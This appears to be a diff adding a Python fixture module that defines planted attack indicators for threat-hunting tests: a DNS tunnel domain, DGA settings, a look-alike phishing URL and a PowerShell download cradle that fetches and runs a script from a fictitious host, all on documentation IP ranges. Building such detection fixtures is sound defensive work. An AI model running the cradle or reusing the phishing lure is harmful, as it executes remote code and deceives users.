@@ -1,0 +1,54 @@
+"""What is planted where: the one place hunts, tests and passive DNS take planted indicators from.
+
+Attacker infrastructure uses RFC 5737 documentation addresses (192.0.2.0/24, 198.51.100.0/24) so no real
+host is ever painted malicious; the domains are fictitious look-alikes.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from datetime import datetime
+
+from .fleet import workstation_short
+
+TUNNEL_DOMAIN = "cdn-telemetry-sync.com"
+TUNNEL_NS_IP = "198.51.100.53"
+TUNNEL_HOST = workstation_short(2)  # ws-eng-021
+
+DGA_HOST = workstation_short(11)  # ws-sales-032
+DGA_C2_IP = "192.0.2.144"
+DGA_NAMES_PER_DAY = 128
+DGA_RESOLVING_INDEX = 77
+
+LDAP_HOST = workstation_short(4)  # ws-it-002
+
+PHISH_HOST = workstation_short(8)  # ws-fin-012
+PHISH_DOMAIN = "login-micros0ft-verify.com"
+PHISH_IP = "198.51.100.77"
+PHISH_URL = (
+    f"https://{PHISH_DOMAIN}/owa/auth?client_id=00000002-0000-0ff1-ce00-000000000000"
+    "&login_hint=p.silva%40contoso.com&sso_reload=true"
+)
+
+CRADLE_HOST = workstation_short(9)  # ws-hr-005
+CRADLE_DOMAIN = "officecdn-update.net"
+CRADLE_IP = "192.0.2.201"
+CRADLE_URL = f"http://{CRADLE_DOMAIN}/a.ps1"
+CRADLE_SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('{CRADLE_URL}')"
+
+ZAP_URL = "https://docs-share-portal.com/view/Q4-bonus-review.html"
+
+
+@dataclass(frozen=True)
+class GroundTruth:
+    incident: str
+    kind: str
+    device_name: str
+    device_id: str
+    entity: str
+    detail: str
+    first_seen: datetime
+    last_seen: datetime
+
+    def row(self) -> dict:
+        return {k: getattr(self, k) for k in self.__dataclass_fields__}
